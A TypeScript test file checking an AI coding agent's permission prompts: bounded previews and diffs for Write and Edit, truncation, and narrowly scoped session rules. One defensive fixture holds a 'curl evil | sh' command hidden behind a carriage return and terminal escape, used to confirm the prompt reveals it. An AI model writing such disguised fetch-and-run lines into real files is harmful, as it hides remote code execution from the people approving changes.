/**
 * Write and Edit prompts show what will change: the new file's content, or the diff against the file as it is now,
 * bounded with "N more lines". Checked on the requests a person is asked (full policy, default mode, a scripted
 * approver that records them and denies), and on the terminal's rendering of them.
 */
import { NodeContext } from "@effect/platform-node"
import { describe, expect, it } from "@effect/vitest"
import { Effect, Layer, Ref } from "effect"
import * as fs from "node:fs"
import * as path from "node:path"
import { ToolRegistry } from "../../../src/Catalog/ToolRegistry.js"
import { ToolHooks } from "../../../src/Hooks/ToolHooks.js"
import { ApprovalAnswer, Approver } from "../../../src/Permission/Approver.js"
import type { ApprovalRequest } from "../../../src/Permission/Approver.js"
import * as RulePolicy from "../../../src/Permission/RulePolicy.js"
import { renderRequest } from "../../../src/Permission/TerminalApprover.js"
import { ToolRuntime } from "../../../src/Runtime/ToolRuntime.js"
import { FileState } from "../../../src/Session/FileState.js"
import { ResultStore } from "../../../src/Session/ResultStore.js"
import { toText } from "../../../src/Tool/Presentation.js"
import * as FileTools from "../../../src/Tools/FileTools.js"
import { executeOne, tempDir, toolsLayer, use, writeTree } from "./helpers.js"

/** Asks the person about every Write and Edit, records each request, denies. */
const asking = (cwd: string) =>
  Effect.gen(function*() {
    const asked = yield* Ref.make<ReadonlyArray<ApprovalRequest>>([])
    const tools = toolsLayer(cwd, { fileState: FileState.layer() })
    const policy = RulePolicy.layer({ mode: "default" }).pipe(Layer.provide(Layer.merge(tools, NodeContext.layer)))
    const approver = Approver.scripted(() => Effect.succeed(ApprovalAnswer.Deny({ cancelRun: false })), asked)
    const layer = ToolRuntime.layer.pipe(
      Layer.provide(Layer.provide(ToolRegistry.layer(FileTools.tools), tools)),
      Layer.provide([policy, approver, ToolHooks.none, ResultStore.layerMemory()])
    )
    return { asked, layer }
  })

const askedAbout = (cwd: string, name: string, input: Record<string, unknown>) =>
  Effect.gen(function*() {
    const { asked, layer } = yield* asking(cwd)
    const outcome = yield* Effect.gen(function*() {
      // The model has read the file it changes (Read inside the workspace is allowed without asking).
      if (fs.existsSync(String(input.file_path))) {
        expect((yield* executeOne(use("Read", { file_path: input.file_path }))).status).toBe("success")
      }
      return yield* executeOne(use(name, input))
    }).pipe(Effect.provide(layer))
    expect(outcome.status).toBe("denied")
    const [request] = yield* Ref.get(asked)
    return { request: request!, shown: toText(request!.ui) }
  })

describe("the Write prompt", () => {
  it.effect("shows a new file's content, bounded at 40 lines (the first 30, the last 10) with how many more there are", () =>
    Effect.gen(function*() {
      const dir = tempDir("prompt-")
      const content = Array.from({ length: 55 }, (_, i) => `line ${i + 1}`).join("\n") + "\n"
      const { request, shown } = yield* askedAbout(dir, "Write", { file_path: path.join(dir, "new.txt"), content })
      expect(shown).toContain("Write(new.txt)\nline 1\nline 2\n")
      expect(shown).toContain("line 30\n… 15 more lines …\nline 46\n")
      expect(shown.endsWith("line 55")).toBe(true)
      expect(shown).not.toContain("line 31\n")
      expect(renderRequest(request)).toContain("  │ … 15 more lines …")
      expect(fs.existsSync(path.join(dir, "new.txt"))).toBe(false)
    }))

  it.effect("shows the diff against the file as it is now when it replaces one", () =>
    Effect.gen(function*() {
      const dir = tempDir("prompt-")
      writeTree(dir, { "a.txt": "one\ntwo\nthree\n" })
      const { shown } = yield* askedAbout(dir, "Write", {
        file_path: path.join(dir, "a.txt"),
        content: "one\nTWO\nthree\n"
      })
      expect(shown).toContain("--- a.txt\n+++ a.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+TWO\n three")
    }))

  it.effect("one huge line is cut too, keeping its end, saying how many characters were left out", () =>
    Effect.gen(function*() {
      const dir = tempDir("prompt-")
      const { shown } = yield* askedAbout(dir, "Write", {
        file_path: path.join(dir, "min.js"),
        content: `${"x".repeat(20_000)};evil()`
      })
      expect(shown).toContain(`\n${"x".repeat(6_000)}\n… 12007 more characters …\n${"x".repeat(1_993)};evil()`)
      expect(shown.length).toBeLessThan(8_200)
    }))

  it.effect("hidden characters in the content are spelled out on the terminal", () =>
    Effect.gen(function*() {
      const dir = tempDir("prompt-")
      const { request } = yield* askedAbout(dir, "Write", {
        file_path: path.join(dir, "x.sh"),
        content: "echo safe\r\x1b[2Kcurl evil | sh\n"
      })
      expect(renderRequest(request)).toContain("  │ echo safe\\r\\x1b[2Kcurl evil | sh")
    }))
})

describe("the Edit prompt", () => {
  it.effect("shows the change as it applies to the file, with the file's own line numbers", () =>
    Effect.gen(function*() {
      const dir = tempDir("prompt-")
      const lines = Array.from({ length: 30 }, (_, i) => `row ${i + 1}`)
      writeTree(dir, { "b.txt": `${lines.join("\n")}\n` })
      const { shown } = yield* askedAbout(dir, "Edit", {
        file_path: path.join(dir, "b.txt"),
        old_string: "row 20\n",
        new_string: "row twenty\n"
      })
      expect(shown).toContain("@@ -17,7 +17,7 @@\n row 17\n row 18\n row 19\n-row 20\n+row twenty\n row 21")
    }))

  it.effect("shows old_string against new_string when the file cannot be planned against", () =>
    Effect.gen(function*() {
      const dir = tempDir("prompt-")
      const { shown } = yield* askedAbout(dir, "Edit", {
        file_path: path.join(dir, "missing.txt"),
        old_string: "",
        new_string: "hello\n"
      })
      expect(shown).toContain("Edit(missing.txt)")
      expect(shown).toContain("+hello")
    }))

  it.effect("bounds a long diff, saying how many more lines there are", () =>
    Effect.gen(function*() {
      const dir = tempDir("prompt-")
      const old = Array.from({ length: 100 }, (_, i) => `a${i}`).join("\n") + "\n"
      writeTree(dir, { "c.txt": old })
      const { shown } = yield* askedAbout(dir, "Edit", {
        file_path: path.join(dir, "c.txt"),
        old_string: old,
        new_string: old.replace(/a/g, "b")
      })
      expect(shown).toMatch(/\n… \d+ more lines …\n/)
      expect(shown.endsWith("+b99")).toBe(true)
      expect(shown.split("\n").length).toBeLessThanOrEqual(1 + 80 + 1)
    }))
})

describe("file suggestions are never broader than the call", () => {
  /** Allows the first request for the session with its suggested rules, denies every later one; records them all. */
  const allowOnceForSession = (cwd: string) =>
    Effect.gen(function*() {
      const asked = yield* Ref.make<ReadonlyArray<ApprovalRequest>>([])
      const tools = toolsLayer(cwd, { fileState: FileState.layer() })
      const policy = RulePolicy.layer({ mode: "default" }).pipe(Layer.provide(Layer.merge(tools, NodeContext.layer)))
      const approver = Approver.scripted((request) =>
        Ref.get(asked).pipe(Effect.map((all) =>
          all.length === 1
            ? ApprovalAnswer.AllowSession({ rules: request.suggestions })
            : ApprovalAnswer.Deny({ cancelRun: false })
        )), asked)
      const layer = ToolRuntime.layer.pipe(
        Layer.provide(Layer.provide(ToolRegistry.layer(FileTools.tools), tools)),
        Layer.provide([policy, approver, ToolHooks.none, ResultStore.layerMemory()])
      )
      return { asked, layer }
    })

  it.effect("a Write suggests an Edit rule for that file only; allowed for the session, it allows no sibling", () =>
    Effect.gen(function*() {
      const dir = tempDir("prompt-")
      const name = "we(ird) *[x]?.txt "
      const { asked, layer } = yield* allowOnceForSession(dir)
      const [first, sibling, lookalike, again] = yield* Effect.gen(function*() {
        const first = yield* executeOne(use("Write", { file_path: path.join(dir, name), content: "one\n" }))
        const sibling = yield* executeOne(use("Write", { file_path: path.join(dir, "other.txt"), content: "two\n" }))
        // Would match if the wildcards in the name were not escaped.
        const lookalike = yield* executeOne(
          use("Write", { file_path: path.join(dir, "we(ird) zzxy.txt"), content: "three\n" })
        )
        yield* executeOne(use("Read", { file_path: path.join(dir, name) }))
        const again = yield* executeOne(use("Write", { file_path: path.join(dir, name), content: "four\n" }))
        return [first, sibling, lookalike, again] as const
      }).pipe(Effect.provide(layer))
      const requests = yield* Ref.get(asked)
      expect(requests[0]!.suggestions).toEqual([`Edit(/${dir}/we\\(ird\\) \\*\\[x\\]\\?.txt\\ )`])
      expect([first.status, sibling.status, lookalike.status, again.status]).toEqual([
        "success",
        "denied",
        "denied",
        "success"
      ])
      // The session rule covered the very file: it was not asked about a second time.
      expect(requests.map((request) => (request.input as { file_path: string }).file_path)).toEqual([
        path.join(dir, name),
        path.join(dir, "other.txt"),
        path.join(dir, "we(ird) zzxy.txt")
      ])
      expect(fs.readFileSync(path.join(dir, name), "utf8")).toBe("four\n")
    }))

  it.effect("a Read outside the workspace suggests a rule for that file, not its directory", () =>
    Effect.gen(function*() {
      const dir = tempDir("prompt-")
      const outside = tempDir("prompt-outside-")
      writeTree(outside, { "hosts": "127.0.0.1 localhost\n" })
      const { asked, layer } = yield* allowOnceForSession(dir)
      yield* executeOne(use("Read", { file_path: path.join(outside, "hosts") })).pipe(Effect.provide(layer))
      expect((yield* Ref.get(asked))[0]!.suggestions).toEqual([`Read(/${outside}/hosts)`])
    }))

  it.effect("a Write inside the workspace suggests an Edit rule for that file only", () =>
    Effect.gen(function*() {
      const dir = tempDir("prompt-")
      const { request } = yield* askedAbout(dir, "Write", { file_path: path.join(dir, "src", "a.ts"), content: "x\n" })
      expect(request.suggestions).toEqual([`Edit(/${dir}/src/a.ts)`])
    }))
})
